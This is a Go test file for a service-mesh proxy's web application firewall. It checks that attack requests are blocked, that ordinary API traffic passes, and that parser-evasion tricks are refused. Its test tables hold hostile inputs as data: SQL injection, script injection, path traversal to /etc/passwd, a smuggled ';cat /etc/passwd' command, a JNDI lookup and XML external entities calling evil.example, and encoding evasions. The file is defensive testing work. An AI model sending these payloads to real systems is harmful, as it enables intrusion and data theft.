package inspect

import (
	"fmt"
	"strings"
	"testing"

	"github.com/outrider-mesh/outrider/proxy/config"
	"github.com/outrider-mesh/outrider/proxy/flow"
)

const (
	formType = "Content-Type: application/x-www-form-urlencoded"
	jsonType = "Content-Type: application/json"
	xmlType  = "Content-Type: application/xml"
	multi    = "Content-Type: multipart/form-data; boundary=b"
)

func part(disposition, body string) string {
	return "--b\r\nContent-Disposition: form-data; " + disposition + "\r\n\r\n" + body + "\r\n"
}

// attacks are blocked by both profiles, by a rule of the family and at the place.
var attacks = []struct {
	name     string
	req      *flow.Request
	body     string
	family   int
	location string
}{
	{"SQL injection in the query", request("GET", "/search?q=1%27%20OR%201=1--%20-"), "", 942, "ARGS:q"},
	{"SQL injection in the query of a POST without a body", request("POST", "/search?q=1%27%20OR%201=1--%20-", "Content-Length: 0"), "", 942, "ARGS:q"},
	{"SQL injection in a form", request("POST", "/pay", formType), "user=ann&note=1'+UNION+SELECT+password+FROM+users--+-", 942, "ARGS:note"},
	{"SQL injection in JSON", request("POST", "/pay", jsonType), `{"user":"ann","items":[{"name":"1' UNION SELECT password FROM users-- -"}]}`, 942, "ARGS:json.items.0.name"},
	{"SQL injection in a +json type", request("POST", "/pay", "Content-Type: application/vnd.shop+json"), `{"name":"1' UNION SELECT password FROM users-- -"}`, 942, ""},
	{"SQL injection in multipart", request("POST", "/pay", multi), part(`name="note"`, "1' UNION SELECT password FROM users-- -") + "--b--\r\n", 942, "ARGS:note"},
	{"SQL injection in XML", request("POST", "/pay", "Content-Type: application/xml"), `<a><b>1' UNION SELECT password FROM users-- -</b></a>`, 942, ""},
	{"SQL injection in JSON that is a file of a form", request("POST", "/pay", multi), "--b\r\nContent-Disposition: form-data; name=\"order\"; filename=\"blob\"\r\nContent-Type: application/json\r\n\r\n" + `{"items":[1,{"name":"1' UNION SELECT password FROM users-- -"}]}` + "\r\n--b--\r\n", 942, "ARGS:order.items.1.name"},
	{"SQL injection in a body that claims no type", request("POST", "/pay"), "note=1'+UNION+SELECT+password+FROM+users--+-", 942, ""},
	{"script in the query", request("GET", "/search?q=%3Cscript%3Ealert(1)%3C/script%3E"), "", 941, "ARGS:q"},
	{"script in a form", request("POST", "/pay", formType), "note=<script>alert(1)</script>", 941, "ARGS:note"},
	{"script in a cookie", request("GET", "/", "Cookie: a=<script>alert(1)</script>"), "", 941, "REQUEST_COOKIES:a"},
	{"path traversal in the query", request("GET", "/get?file=../../../../etc/passwd"), "", 930, ""},
	{"path traversal in the path", request("GET", "/static/..%2f..%2f..%2fetc%2fpasswd"), "", 930, ""},
	{"a shell command", request("GET", "/ping?host=%3Bcat%20/etc/passwd"), "", 932, "ARGS:host"},
	{"JNDI in a header", request("GET", "/", "X-Api-Version: ${jndi:ldap://evil.example/a}"), "", 944, "REQUEST_HEADERS:X-Api-Version"},
	{"a scanner", request("GET", "/", "User-Agent: sqlmap/1.7"), "", 913, ""},
	{"an attack behind a fragment", request("GET", "/search?a=1#&q=<script>alert(1)</script>"), "", 941, ""},
}

func TestAttacksAreBlockedByBothProfiles(t *testing.T) {
	const minimum = 18
	if len(attacks) < minimum {
		t.Fatalf("only %d cases, want %d", len(attacks), minimum)
	}
	for name, i := range map[string]*Inspector{"mesh": mesh(t), "crs": stock(t)} {
		for _, tt := range attacks {
			t.Run(name+"/"+tt.name, func(t *testing.T) {
				v := judge(t, i, tt.req, tt.body)
				if v.Outcome != flow.Blocked || !v.Refuse {
					t.Fatalf("outcome %s, refuse %t, score %d, rules %v", v.Outcome, v.Refuse, v.Score, v.Rules)
				}
				if v.Policy != "shop/waf" || v.Score < 5 || v.Message == "" || v.Uninspected != flow.Inspected {
					t.Errorf("verdict %+v", v)
				}
				if !hasFamily(v, tt.family) {
					t.Errorf("rules %v, want one of %d", v.Rules, tt.family)
				}
				if hasFamily(v, 949) {
					t.Errorf("rules %v name the one that compares the score", v.Rules)
				}
				if tt.location != "" && v.Location != tt.location {
					t.Errorf("location %q, want %q", v.Location, tt.location)
				}
				if v.Bytes != int64(len(tt.body)) {
					t.Errorf("%d bytes inspected, want %d", v.Bytes, len(tt.body))
				}
			})
		}
	}
}

func TestBenignRequestsAreClean(t *testing.T) {
	for _, tt := range []struct {
		name string
		req  *flow.Request
		body string
	}{
		{"a GET", request("GET", "/v1/charges/42"), ""},
		{"a GET with arguments", request("GET", "/v1/charges?customer=42&limit=10&order=desc"), ""},
		{"a HEAD", request("HEAD", "/v1/charges"), ""},
		{"a DELETE", request("DELETE", "/v1/charges/42"), ""},
		{"a PUT of JSON", request("PUT", "/v1/charges/42", jsonType, "Content-Length: 26"), `{"amount":100,"note":"ok"}`},
		{"a PATCH of a JSON patch", request("PATCH", "/v1/charges/42", "Content-Type: application/json-patch+json", "Content-Length: 50"), `[{"op":"replace","path":"/note","value":"changed"}]`},
		{"a POST of JSON", request("POST", "/v1/charges", "Content-Type: application/json; charset=utf-8", "Content-Length: 32"), `{"items":[{"id":1},{"id":2,"n":3}]}`},
		{"a POST of lines of JSON", request("POST", "/v1/bulk", "Content-Type: application/x-ndjson", "Content-Length: 18"), "{\"a\":1}\n{\"b\":2}\n"},
		{"a POST of a form", request("POST", "/v1/charges", formType, "Content-Length: 22"), "customer=ann&amount=10"},
		{"a POST of text", request("POST", "/v1/notes", "Content-Type: text/plain", "Content-Length: 11"), "hello world"},
		{"a POST of several lines", request("POST", "/v1/notes", "Content-Type: text/plain", "Content-Length: 11"), "hello\r\nworld = here & there\n"},
		{"a POST of protobuf", request("POST", "/v1/charges", "Content-Type: application/x-protobuf", "Content-Length: 17"), "\x0a\x05hello\x10\x96\x01\x1a\x05\x00\x01\x02\x03\x04"},
		{"a POST of bytes", request("POST", "/v1/blob", "Content-Type: application/octet-stream", "Content-Length: 8"), "\x00\x01\x02\xff\xfe\x80\x7f\x00"},
		{"a multipart upload", request("POST", "/v1/files", multi, "Content-Length: 200"), part(`name="note"`, "hello") + part(`name="f"; filename="a.txt"`, "content") + "--b--\r\n"},
		{"an Expect header", request("POST", "/v1/charges", jsonType, "Content-Length: 7", "Expect: 100-continue"), `{"a":1}`},
		{"an event stream", request("GET", "/v1/events", "Accept: text/event-stream"), ""},
	} {
		t.Run(tt.name, func(t *testing.T) {
			v := judge(t, mesh(t), tt.req, tt.body)
			if v.Outcome != flow.Clean || v.Refuse || v.Uninspected != flow.Inspected {
				t.Errorf("verdict %+v", v)
			}
		})
	}
}

func TestTheStockProfileRefusesWhatOnlyServicesSay(t *testing.T) {
	for _, tt := range []struct {
		name string
		req  *flow.Request
		body string
		rule int
	}{
		{"a method", request("PATCH", "/", jsonType, "Content-Length: 2"), "{}", 911100},
		{"a content type", request("POST", "/", "Content-Type: application/x-protobuf", "Content-Length: 2"), "\x08\x01", 920420},
	} {
		t.Run(tt.name, func(t *testing.T) {
			if v := judge(t, stock(t), tt.req, tt.body); v.Outcome != flow.Blocked || !hasRule(v, tt.rule) {
				t.Errorf("crs: %+v", v)
			}
			if v := judge(t, mesh(t), tt.req, tt.body); v.Outcome != flow.Clean {
				t.Errorf("mesh: %+v", v)
			}
		})
	}
}

func TestBinaryBodies(t *testing.T) {
	for _, tt := range []struct {
		name, typ, body string
		want            flow.Outcome
	}{
		{"an attack in a string of a protobuf message", "application/x-protobuf", "\x0a\x27" + `1' UNION SELECT password FROM users-- -` + "\x10\x00", flow.Blocked},
		{"JSON that calls itself binary", "application/octet-stream", `{"name":"1' UNION SELECT password FROM users-- -"}`, flow.Blocked},
		{"a form that calls itself binary", "application/octet-stream", `note=<script>alert(1)</script>`, flow.Blocked},
		{"many runs of text", "application/octet-stream", strings.Repeat("harmless\x00", 1500), flow.NotInspected},
		{"few runs of text", "application/octet-stream", strings.Repeat("harmless\x00", 15), flow.Clean},
	} {
		t.Run(tt.name, func(t *testing.T) {
			req := request("POST", "/", "Content-Type: "+tt.typ, fmt.Sprintf("Content-Length: %d", len(tt.body)))
			if v := judge(t, mesh(t), req, tt.body); v.Outcome != tt.want {
				t.Errorf("verdict %+v", v)
			}
		})
	}
}

// What an engine drops or cannot read must not pass as inspected.
func TestWaysAroundTheParserAreRefused(t *testing.T) {
	var padded strings.Builder
	padded.WriteByte('{')
	for n := range 1500 {
		fmt.Fprintf(&padded, `"k%d":1,`, n)
	}
	padded.WriteString(`"x":"<script>alert(1)</script>"}`)
	large := sharedInspector(t, "lax", config.InspectionSpec{Threshold: 1000, Body: config.InspectionBody{InspectBytes: 1 << 20}})
	cases := []struct {
		name string
		req  *flow.Request
		body string
		rule int
	}{
		{"an attack behind 1,500 keys of JSON", request("POST", "/", jsonType), padded.String(), 7100006},
		{"1,500 arguments in a form", request("POST", "/", formType), strings.Repeat("a=1&", 1500), 7100006},
		{"1,500 arguments in the query", request("GET", "/?"+strings.Repeat("a=1&", 1500)), "", 7100005},
		{"a content type behind another", request("POST", "/", "Content-Type: text/plain", jsonType), `{}`, 7100003},
		{"JSON that does not parse", request("POST", "/", jsonType), `{"a":`, 7100008},
		{"JSON of great depth", request("POST", "/", jsonType), strings.Repeat("[", 500) + strings.Repeat("]", 500), 7100008},
		{"multipart with a repeated part header", request("POST", "/", multi), "--b\r\nContent-Disposition: form-data; name=\"a\"\r\nContent-Disposition: form-data; name=\"b\"\r\n\r\nx\r\n--b--\r\n", 7100009},
		{"multipart without a boundary", request("POST", "/", "Content-Type: multipart/form-data"), "--b\r\n", 7100008},
		{"1,500 parts", request("POST", "/", multi), strings.Repeat(part(`name="a"`, "1"), 900) + strings.Repeat(part(`filename="b"`, "1"), 600) + "--b--\r\n", 7100006},
		{"1,500 values of JSON in a part", request("POST", "/", multi), "--b\r\nContent-Disposition: form-data; name=\"a\"; filename=\"f\"\r\nContent-Type: application/json\r\n\r\n[" + strings.Repeat("1,", 1500) + "1]\r\n--b--\r\n", 7100006},
		{"1,500 texts of XML", request("POST", "/", xmlType), "<a>" + strings.Repeat("<b>x</b>", 1500) + "</a>", 7100006},
		{"1,500 attributes of XML", request("POST", "/", xmlType), "<a " + strings.Repeat("b='x' ", 1500) + "/>", 7100006},
		{"an entity that stands for an attack", request("POST", "/", xmlType), `<!DOCTYPE a [<!ENTITY x "&#x3c;script>alert(1)&#x3c;/script>">]><a>&x;</a>`, 7100008},
		{"an external entity", request("POST", "/", xmlType), `<!DOCTYPE a SYSTEM "http://evil.example/a.dtd"><a>&x;</a>`, 7100008},
		{"an external entity in lower case", request("POST", "/", xmlType), `<!doctype a public "-//x" "http://evil.example/a.dtd"><a>&x;</a>`, 7100008},
		{"XML that declares another encoding", request("POST", "/", xmlType), `<?xml version="1.0" encoding="utf-7"?><a>+ADw-script+AD4-</a>`, 7100008},
		{"XML in UTF-16", request("POST", "/", xmlType), "\xff\xfe<\x00a\x00>\x00", 7100008},
		{"JSON in UTF-16", request("POST", "/", jsonType), "\xff\xfe{\x00}\x00", 7100008},
		{"JSON with something behind it", request("POST", "/", jsonType), `{"a":1} <script>alert(1)</script>`, 7100008},
		{"multipart with two boundaries", request("POST", "/", "Content-Type: multipart/form-data; boundary=b; boundary=c"), part(`name="a"`, "x") + "--b--\r\n", 7100008},
		{"multipart without an end", request("POST", "/", multi), part(`name="a"`, "x"), 7100009},
		{"a target that does not parse", request("GET", "/%zz"), "", 7100004},
	}
	const minimum = 22
	if len(cases) < minimum {
		t.Fatalf("only %d cases, want %d", len(cases), minimum)
	}
	for _, tt := range cases {
		t.Run(tt.name, func(t *testing.T) {
			v := judge(t, large, tt.req, tt.body)
			outcome, reason := flow.Blocked, flow.Inspected
			if countsArguments(tt.rule) {
				outcome, reason = flow.NotInspected, flow.Arguments
			}
			if v.Outcome != outcome || v.Uninspected != reason || !v.Refuse || !hasRule(v, tt.rule) {
				t.Errorf("verdict %+v, want rule %d", v, tt.rule)
			}
			if v.Message == "" {
				t.Error("no message")
			}
		})
	}
}

func TestNoVerdictHoldsThePayload(t *testing.T) {
	const marker = "zq7payload"
	script := "%3Cscript%3E" + marker + "%3C/script%3E"
	for _, req := range []*flow.Request{
		request("GET", "/?q="+script),
		request("GET", "/?"+script+"=1"),
		request("GET", "/"+script),
		request("GET", "/", "X-A: <script>"+marker+"</script>"),
		request("GET", "/", "Cookie: <script>"+marker+"</script>=1"),
		request("GET", "/?q=1%27%20UNION%20SELECT%20"+marker+"%20FROM%20users--"),
		request("POST", "/", "Content-Type: "+marker),
	} {
		v := judge(t, stock(t), req, "")
		if v.Outcome != flow.Blocked && v.Score == 0 {
			t.Errorf("%s was not found: the test shows nothing", req.Target)
		}
		if strings.Contains(v.Message+v.Location, marker) {
			t.Errorf("%s: message %q, location %q", req.Target, v.Message, v.Location)
		}
	}
}

// HTTP/2 has no Host field; the rules want one all the same.
func TestTheHostIsFedWhereNoFieldHoldsIt(t *testing.T) {
	req := request("GET", "/")
	req.Header = header{{"user-agent", "x"}, {"accept", "*/*"}}
	if v := judge(t, mesh(t), req, ""); v.Outcome != flow.Clean || v.Score != 0 {
		t.Errorf("verdict %+v", v)
	}
	req.Host = ""
	if v := judge(t, mesh(t), req, ""); !hasRule(v, 920280) {
		t.Errorf("without a host: %+v", v)
	}
}
